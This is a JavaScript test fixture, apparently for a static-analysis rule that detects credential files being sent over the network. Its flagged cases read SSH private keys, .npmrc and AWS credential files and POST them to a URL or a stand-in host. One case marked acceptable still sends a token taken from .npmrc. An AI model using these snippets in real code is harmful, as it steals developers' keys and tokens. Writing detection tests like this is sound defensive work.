const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const axios = require("axios");

async function collect(url) {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh/id_rsa"), "utf8");
  // ruleid: javascript-credential-file-sent
  await axios.post(url, { key });
  const req = https.request({ host: "c.example.net", method: "POST" });
  // ruleid: javascript-credential-file-sent
  req.write(fs.readFileSync("/home/dev/.npmrc"));
  const file = os.homedir() + "/.aws/credentials";
  // ruleid: javascript-credential-file-sent
  await fetch(url, { method: "POST", body: fs.readFileSync(file) });
  // ok: javascript-credential-file-sent
  await axios.post(url, { text: fs.readFileSync("report.txt", "utf8") });
  // ok: javascript-credential-file-sent
  const present = fs.existsSync(path.join(os.homedir(), ".npmrc"));
  const token = findToken(fs.readFileSync("/home/dev/.npmrc", "utf8"));
  // ok: javascript-credential-file-sent
  await axios.post(url, { token });
  return present;
}
